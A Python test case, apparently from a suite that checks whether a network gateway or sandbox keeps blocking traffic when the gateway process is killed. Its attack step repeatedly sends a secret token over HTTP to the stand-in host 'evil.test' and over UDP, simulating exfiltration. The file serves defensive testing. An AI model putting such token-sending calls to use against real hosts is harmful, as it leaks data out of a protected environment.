# SPDX-License-Identifier: Apache-2.0
"""The gateway is killed: the program must stay where it is."""
import time

from bypass import get

TITLE = "kill -9 of the gateway under fire"
THREAT = "58"
NEEDS = ["crash"]
FAMILIES = "4"


def attack(c):
    with c.step("denied host, before, during and after") as token:
        end = time.time() + 3
        while time.time() < end:
            for host in ("evil.test", c.e):
                try:
                    c.send(host, 80, get(host, f"/{token}", "Connection: close"))
                except OSError:
                    pass
            try:
                c.udp(c.e, 9999, token.encode(), 0.02)
            except OSError:
                pass
            time.sleep(0.02)


def outside(box):
    p = box.spawn()
    time.sleep(1.2)
    killed = box.verb("crash")
    box.wait(p)
    if not killed:
        box.finished = False
    elif box.adapter.file != "none" and not box.steps:
        # A gateway that takes the program with it has blocked it.
        box.finished = True
        box.expect("denied host, before, during and after", f"{box.token}4000z")
